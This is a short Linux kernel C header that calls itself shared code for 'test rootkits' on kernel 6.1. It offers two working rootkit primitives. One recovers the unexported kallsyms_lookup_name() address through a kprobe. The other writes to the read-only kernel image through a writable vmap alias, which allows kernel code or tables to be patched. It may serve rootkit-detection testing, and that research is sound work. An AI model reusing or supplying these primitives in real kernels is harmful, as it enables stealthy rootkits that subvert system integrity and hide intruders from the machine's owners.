/* SPDX-License-Identifier: GPL-2.0 */
/* Shared by the test rootkits: the two tricks every such kit needs on 6.1.
 *
 * rk_lookup_name(): kallsyms_lookup_name() is no longer exported (5.7+); a
 * kprobe on it yields its address.
 * rk_poke(): the kernel image is mapped read-only; write through a temporary
 * writable vmap() alias of the pages (as old text_poke did), CR0.WP untouched.
 */
#ifndef RK_COMMON_H
#define RK_COMMON_H

#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/vmalloc.h>

static unsigned long rk_lookup_name(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *);

	if (register_kprobe(&kp) < 0)
		return 0;
	lookup = (void *)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? lookup(name) : 0;
}

/* Write len bytes at a read-only kernel-image address through a vmap alias. */
static int rk_poke(void *addr, const void *src, size_t len)
{
	unsigned long a = (unsigned long)addr;
	struct page *pages[2];
	int n = offset_in_page(a) + len > PAGE_SIZE ? 2 : 1;
	void *map;

	pages[0] = pfn_to_page(__pa(a) >> PAGE_SHIFT);
	if (n == 2)
		pages[1] = pfn_to_page(__pa(a + PAGE_SIZE) >> PAGE_SHIFT);
	map = vmap(pages, n, VM_MAP, PAGE_KERNEL);
	if (!map)
		return -ENOMEM;
	memcpy(map + offset_in_page(a), src, len);
	vunmap(map);
	return 0;
}

#endif /* RK_COMMON_H */
